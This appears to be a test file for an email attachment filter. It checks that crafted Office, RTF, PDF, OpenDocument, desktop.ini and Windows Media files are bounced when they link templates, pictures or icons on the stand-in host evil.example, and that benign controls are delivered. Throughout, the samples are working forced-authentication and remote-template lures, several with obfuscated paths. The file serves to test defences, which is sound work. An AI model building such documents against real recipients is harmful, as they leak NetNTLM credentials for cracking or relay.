import { pdfObjects, type SesReceiptVerdicts, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { sesGuardKit } from './ses-guard-kit.js';
import { useTwinStack } from './twin-kit.js';

// Attacker round 118 (an outside sender, the guard at its defaults): a document whose link makes Windows reach a file
// on a computer the sender chose. A `.docx` whose template (`settings.xml.rels`, `attachedTemplate`) is
// `file:///\\evil.example\templates\Letterhead.dotx`, an `.xlsx` external link, a frame, a picture linked by a UNC
// path, an RTF or Word `INCLUDEPICTURE` field, a PDF's `/GoToR`: Word, Excel and Acrobat open the share as the
// document opens (or its links update, or the preview pane draws it), and Windows signs in to the share as the user:
// the host's owner gets the user's NetNTLM response (cracked offline or relayed). A WebDAV path (`\\host@SSL\x`,
// `\\host@80\x`) does the same over HTTP. Round 48 refused an address on a server (`https:`), and listed a link by a
// UNC path by the linked file's name only, so `Letterhead.dotx` on the sender's share was delivered. Such a link is
// now refused whatever the file is; relative and local links, hyperlinks (followed on a click), and pictures on a
// web server are delivered.
const stack = useTwinStack();
const kit = attackerKit(stack);
const sesGuard = sesGuardKit(stack);
const PASS: SesReceiptVerdicts = { spam: 'PASS', virus: 'PASS', spf: 'PASS', dkim: 'PASS', dmarc: 'PASS' };
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const PPTX = 'application/vnd.openxmlformats-officedocument.presentationml.presentation';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const rels = (...relationships: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`;
const external = (type: string, target: string, id = 'rId1') =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}" TargetMode="External"/>`;
const paragraphs = (body = '<w:p><w:r><w:t>Please find the letter attached.</w:t></w:r></w:p>') =>
  `<?xml version="1.0"?><w:document xmlns:w="${W}"><w:body>${body}</w:body></w:document>`;
// A `.docx` whose template is `target` (Word's own layout: `word/settings.xml` names it, its relationships say where).
const templated = (target: string) =>
  zipFile([
    { name: 'word/document.xml', data: paragraphs() },
    {
      name: 'word/settings.xml',
      data: `<?xml version="1.0"?><w:settings xmlns:w="${W}" xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
    },
    { name: 'word/_rels/settings.xml.rels', data: rels(external('attachedTemplate', target)) },
  ]);
const docxRels = (relationships: string, part = 'word/_rels/document.xml.rels') =>
  zipFile([
    { name: 'word/document.xml', data: paragraphs() },
    { name: part, data: rels(relationships) },
  ]);
// An `.xlsx` whose external link (`xl/externalLinks/externalLink1.xml`) is the workbook `target`.
const linkedBook = (target: string) =>
  zipFile([
    { name: 'xl/workbook.xml', data: '<?xml version="1.0"?><workbook/>' },
    { name: 'xl/externalLinks/externalLink1.xml', data: '<?xml version="1.0"?><externalLink/>' },
    {
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      data: rels(external('externalLinkPath', target)),
    },
  ]);
const slideWithPicture = (target: string) =>
  zipFile([
    { name: 'ppt/slides/slide1.xml', data: '<?xml version="1.0"?><p:sld/>' },
    { name: 'ppt/slides/_rels/slide1.xml.rels', data: rels(external('image', target)) },
  ]);
const fieldDocx = (instruction: string) =>
  zipFile([
    {
      name: 'word/document.xml',
      data: paragraphs(
        `<w:p><w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`,
      ),
    },
  ]);
const rtf = (instruction: string) =>
  Buffer.from(`{\\rtf1\\ansi Invoice\\par{\\field{\\*\\fldinst {${instruction}}}{\\fldrslt x}}}`);
const pdf = (catalog: string) =>
  pdfObjects([
    { body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` },
    { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>' },
  ]);
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;

describe('A118-1: a document linking a file on a computer the sender chose (bounced)', () => {
  const cases: Record<string, [string, Buffer, string?]> = {
    'a template by file:///\\\\host\\share': [
      'Letter.docx',
      templated('file:///\\\\evil.example\\templates\\Letterhead.dotx'),
      DOCX,
    ],
    'a template by a bare UNC path': [
      'Letter.docx',
      templated('\\\\evil.example\\templates\\Letterhead.dotx'),
      DOCX,
    ],
    'a template by file://host/share': [
      'Letter.docx',
      templated('file://evil.example/templates/Letterhead.dotx'),
      DOCX,
    ],
    'a template by file:////host/share': [
      'Letter.docx',
      templated('file:////evil.example/t/Letterhead.dotx'),
      DOCX,
    ],
    'a template by forward slashes': ['Letter.docx', templated('//evil.example/t/Letterhead.dotx'), DOCX],
    'a template on a WebDAV share over TLS': [
      'Letter.docx',
      templated('\\\\evil.example@SSL\\DavWWWRoot\\t.dotx'),
      DOCX,
    ],
    'a template on a WebDAV share on port 80': [
      'Letter.docx',
      templated('file:///\\\\evil.example@80\\t\\t.dotx'),
      DOCX,
    ],
    'a template by \\\\?\\UNC\\host': [
      'Letter.docx',
      templated('\\\\?\\UNC\\evil.example\\t\\Letterhead.dotx'),
      DOCX,
    ],
    'a template by a percent-encoded file URL': [
      'Letter.docx',
      templated('file:%2F%2Fevil.example/t/x.dotx'),
      DOCX,
    ],
    'a template behind localhost': [
      'Letter.docx',
      templated('file://localhost//evil.example/t/x.dotx'),
      DOCX,
    ],
    'a template by the Mup device': [
      'Letter.docx',
      templated('\\\\?\\GLOBALROOT\\Device\\Mup\\evil.example\\t\\x.dotx'),
      DOCX,
    ],
    'an .xlsx external link by a UNC path': [
      'Figures.xlsx',
      linkedBook('file:///\\\\evil.example\\s\\Book.xlsx'),
      XLSX,
    ],
    'a frame by a UNC path': [
      'Letter.docx',
      docxRels(external('frame', '\\\\evil.example\\s\\page.docx'), 'word/_rels/webSettings.xml.rels'),
      DOCX,
    ],
    'a picture linked by a UNC path (.docx)': [
      'Letter.docx',
      docxRels(external('image', 'file:///\\\\evil.example\\s\\logo.png')),
      DOCX,
    ],
    'a picture linked by a UNC path (.pptx)': [
      'Deck.pptx',
      slideWithPicture('\\\\evil.example\\s\\logo.png'),
      PPTX,
    ],
    'an INCLUDEPICTURE field in a .docx': [
      'Letter.docx',
      fieldDocx('INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\logo.png" \\d'),
      DOCX,
    ],
    'an INCLUDEPICTURE field in an .rtf': [
      'Letter.rtf',
      rtf('INCLUDEPICTURE "\\\\\\\\\\\\\\\\evil.example\\\\\\\\s\\\\\\\\logo.png" \\\\d'),
    ],
    'a PDF opening another on a share (/GoToR)': [
      'Invoice.pdf',
      pdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\report.pdf) /D [0 /Fit] >>'),
      'application/pdf',
    ],
    'the document inside a zip': [
      'letters.zip',
      zipFile([{ name: 'Letter.docx', data: templated('\\\\evil.example\\t\\Letterhead.dotx') }]),
      'application/zip',
    ],
  };
  for (const [label, [name, file, type]] of Object.entries(cases)) {
    it(label, async () => {
      expect(await verdict(name, file, type)).toBe('BOUNCE');
    });
  }
  it('stripped (ATTACHMENT_ACTION=strip): the document is not delivered', async () => {
    const [message, payload] = attachedFile(
      'Letter.docx',
      templated('file:///\\\\evil.example\\templates\\Letterhead.dotx'),
      DOCX,
    );
    const { verdict: outcome, delivered } = await kit.inbound(message, { ATTACHMENT_ACTION: 'strip' });
    if (outcome === 'BOUNCE') return;
    expect(outcome).toBe('DEFAULT');
    expect(delivered.toString('latin1')).not.toContain(payload);
  });
  it('guard-ses: the UNC template is not delivered (the local one is)', async () => {
    const [unc] = attachedFile('Letter.docx', templated('\\\\evil.example\\t\\Letterhead.dotx'), DOCX);
    const [local] = attachedFile('Letter.docx', templated('Normal.dotm'), DOCX);
    expect(await sesGuard(unc, PASS, 'x@evil.example')).toEqual({ disposition: 'STOP_RULE_SET' });
    expect(await sesGuard(local, PASS, 'x@evil.example')).toEqual({ disposition: 'CONTINUE' });
  });
});

describe('A118-1 controls (delivered)', () => {
  const cases: Record<string, [string, Buffer, string?]> = {
    'a plain .docx': ['Letter.docx', zipFile([{ name: 'word/document.xml', data: paragraphs() }]), DOCX],
    'a template by name (Normal.dotm)': ['Letter.docx', templated('Normal.dotm'), DOCX],
    'a template by a local drive path': [
      'Letter.docx',
      templated('file:///C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'),
      DOCX,
    ],
    'a template by file://localhost/C:': [
      'Letter.docx',
      templated('file://localhost/C:/Templates/Letter.dotx'),
      DOCX,
    ],
    'a template by a Mac path': ['Letter.docx', templated('/Users/bob/Library/Templates/Letter.dotx'), DOCX],
    'an .xlsx external link to a relative workbook': ['Figures.xlsx', linkedBook('Book2.xlsx'), XLSX],
    'an .xlsx external link up a folder': ['Figures.xlsx', linkedBook('../Q3/Book2.xlsx'), XLSX],
    'hyperlinks a user must click (https and a share)': [
      'Letter.docx',
      docxRels(
        external('hyperlink', 'https://vendor.example/terms') +
          external('hyperlink', 'file:///\\\\fileserver\\docs\\terms.pdf', 'rId2'),
      ),
      DOCX,
    ],
    'a picture on a web server (drawn, as round 48 decided)': [
      'Deck.pptx',
      slideWithPicture('https://cdn.example/logo.png'),
      PPTX,
    ],
    'an INCLUDEPICTURE field from the web and a HYPERLINK field': [
      'Letter.rtf',
      rtf('INCLUDEPICTURE "https://cdn.example/logo.png" \\\\d HYPERLINK "https://vendor.example/x"'),
    ],
  };
  for (const [label, [name, file, type]] of Object.entries(cases)) {
    it(label, async () => {
      expect(await verdict(name, file, type)).toBe('DEFAULT');
    });
  }
});

// A118-2: an RTF document's own template (`{\*\template <path>}`), which Word loads as it opens the document, from a
// server ("RTF template injection", Proofpoint 2021: a remote template with macros or an exploit) or a share. The
// guard read an RTF's objects and fields, not its template: both were delivered.
const templatedRtf = (path: string) =>
  Buffer.from(`{\\rtf1\\ansi\\deff0{\\*\\template ${path}}{\\fonttbl{\\f0 Calibri;}}Dear customer,\\par}`);
describe('A118-2: an RTF template on a server or a share (bounced)', () => {
  const cases: Record<string, [string, Buffer]> = {
    'on a web server': ['Letter.rtf', templatedRtf('http://evil.example/t.dotm')],
    'on a share': ['Letter.rtf', templatedRtf('\\\\\\\\evil.example\\\\s\\\\t.dotm')],
    'on a share, hex-escaped': ['Letter.rtf', templatedRtf("\\'5c\\'5cevil.example\\'5cs\\'5ct.dotm")],
    'on a share, Unicode-escaped': ['Letter.rtf', templatedRtf('\\u92?\\u92?evil.example\\\\t.dotm')],
    'on a WebDAV share by a file URL': [
      'Letter.rtf',
      templatedRtf('file:///\\\\\\\\evil.example@SSL\\\\t.dotm'),
    ],
    'a path holding a group (not read)': ['Letter.rtf', templatedRtf('{\\field x}http://evil.example/t')],
    'an RTF named .doc': ['Letter.doc', templatedRtf('https://evil.example/t.dotm')],
  };
  for (const [label, [name, file]] of Object.entries(cases)) {
    it(label, async () => {
      expect(await verdict(name, file)).toBe('BOUNCE');
    });
  }
});

describe('A118-2 controls (delivered)', () => {
  it('an RTF whose template is Normal.dotm by name or on the local drive', async () => {
    expect(await verdict('Letter.rtf', templatedRtf('Normal.dotm'))).toBe('DEFAULT');
    expect(
      await verdict(
        'Letter.rtf',
        templatedRtf('C:\\\\Users\\\\bob\\\\AppData\\\\Roaming\\\\Microsoft\\\\Templates\\\\Normal.dotm'),
      ),
    ).toBe('DEFAULT');
  });
});

// A118-3 (left open by round 117): a folder's `desktop.ini` in an archive naming its icon on a share. Explorer reads
// it as it shows the folder (marked read-only or system, which 7-Zip and tar restore), fetches the icon and signs in
// to the share as the user. Read now: a value on another computer or a server is refused.
const ini = (line: string, utf16 = false) => {
  const text = `[.ShellClassInfo]\r\n${line}\r\n[ViewState]\r\nMode=\r\nVid=\r\nFolderType=Pictures\r\n`;
  return utf16 ? Buffer.from(`\ufeff${text}`, 'utf16le') : Buffer.from(text, 'latin1');
};
const photos = (data: Buffer, name = 'Photos/desktop.ini') =>
  zipFile([
    {
      name: 'Photos/IMG_0001.jpg',
      data: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]),
    },
    { name, data },
  ]);
describe('A118-3: a desktop.ini in an archive naming a file on another computer (bounced)', () => {
  const cases: Record<string, Buffer> = {
    'IconResource on a share': photos(ini('IconResource=\\\\evil.example\\s\\folder.ico,0')),
    'IconResource on a share, in UTF-16': photos(ini('IconResource=\\\\evil.example\\s\\folder.ico,0', true)),
    'IconFile on a WebDAV share, quoted': photos(ini('IconFile="\\\\evil.example@SSL\\s\\folder.ico"')),
    'a localized name from a share': photos(ini('LocalizedResourceName=@\\\\evil.example\\s\\x.dll,-1')),
    'an icon by a file URL to a host': photos(ini('IconResource=file://evil.example/s/folder.ico')),
    'an icon from a web server': photos(ini('IconResource=http://evil.example/folder.ico')),
    'named DESKTOP.INI': photos(ini('IconResource=\\\\evil.example\\s\\folder.ico,0'), 'Photos/DESKTOP.INI'),
  };
  for (const [label, zip] of Object.entries(cases)) {
    it(label, async () => {
      expect(await verdict('photos.zip', zip, 'application/zip')).toBe('BOUNCE');
    });
  }
});

describe('A118-3 controls (delivered)', () => {
  it("a zip of a Windows folder with its own desktop.ini (system icons, a tip's text)", async () => {
    const windows = [
      'LocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21779',
      'IconResource=%SystemRoot%\\system32\\imageres.dll,-113',
      'IconFile=C:\\Windows\\System32\\shell32.dll',
      'IconIndex=-235',
      'InfoTip=Contains: photos of the Q3 offsite, see https://intranet.example/q3',
    ].join('\r\n');
    expect(await verdict('photos.zip', photos(ini(windows)), 'application/zip')).toBe('DEFAULT');
    expect(await verdict('photos.zip', photos(ini(windows, true)), 'application/zip')).toBe('DEFAULT');
  });
  it('a file named like desktop.ini is read only under that name', async () => {
    const zip = zipFile([
      { name: 'notes/mydesktop.ini', data: ini('IconResource=\\\\fileserver\\s\\x.ico') },
    ]);
    expect(await verdict('notes.zip', zip, 'application/zip')).toBe('DEFAULT');
  });
});

// A118-4: Windows Media metafiles under the names other than `.asx` (which Outlook's list and the default block):
// `.wax`, `.wvx`, `.wmx` are the same file, opened by Windows Media Player, which fetches each entry's `<ref href>`
// as the list opens; one on a share signs in to it as the user. They were delivered.
const metafile = Buffer.from(
  '<asx version="3.0"><title>Q3 call</title><entry><ref href="\\\\evil.example\\s\\call.mp3"/></entry></asx>\r\n',
);
describe('A118-4: a Windows Media metafile under another name (bounced)', () => {
  const cases: Record<string, [string, string?]> = {
    '.wax': ['call.wax', 'audio/x-ms-wax'],
    '.wvx': ['call.wvx', 'video/x-ms-wvx'],
    '.wmx': ['call.wmx'],
    'an unnamed audio/x-ms-wax part': ['', 'audio/x-ms-wax'],
  };
  for (const [label, [name, type]] of Object.entries(cases)) {
    it(label, async () => {
      const [message] =
        name === ''
          ? [
              Buffer.from(
                `From: x@evil.example\r\nTo: bob@corp.example\r\nSubject: call\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nListen.\r\n--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n${metafile.toString('base64')}\r\n--b--\r\n`,
              ),
            ]
          : attachedFile(name, metafile, type);
      expect((await kit.inbound(message)).verdict).toBe('BOUNCE');
    });
  }
  it('(control) an .mp3 is delivered', async () => {
    const mp3 = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 0, 0xff, 0xfb, 0x90, 0x64]);
    expect(await verdict('call.mp3', mp3, 'audio/mpeg')).toBe('DEFAULT');
  });
});

// A118-5: an OpenDocument picture linked from outside the package (`draw:image xlink:href`), which LibreOffice loads
// as the document opens (round 58 read linked objects, sections and frames, not pictures: drawn, never run). One on
// a share signs in to it as the user. It was delivered.
const ODT = 'application/vnd.oasis.opendocument.text';
const odt = (body: string) =>
  zipFile([
    { name: 'mimetype', data: ODT, method: 0 },
    {
      name: 'content.xml',
      data: `<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:body><office:text>${body}</office:text></office:body></office:document-content>`,
    },
  ]);
const picture = (href: string) =>
  `<text:p><draw:frame draw:name="Logo"><draw:image xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`;
describe('A118-5: an OpenDocument picture linked from a share (bounced)', () => {
  // xmloff takes a path without a scheme or a leading `/` or `..` for one inside the package (a backslash UNC path
  // too): a share is named by a network path or a file URL.
  it('a network path (//host/share)', async () => {
    expect(await verdict('Letter.odt', odt(picture('//evil.example/s/logo.png')), ODT)).toBe('BOUNCE');
  });
  it('a file URL to a host', async () => {
    expect(await verdict('Letter.odt', odt(picture('file://evil.example/s/logo.png')), ODT)).toBe('BOUNCE');
  });
  it('(control) a picture in the package, one up a folder and one on a web server are delivered', async () => {
    const body =
      picture('Pictures/10000000000000C8.png') +
      picture('../images/logo.png') +
      picture('https://cdn.example/logo.png');
    expect(await verdict('Letter.odt', odt(body), ODT)).toBe('DEFAULT');
  });
});
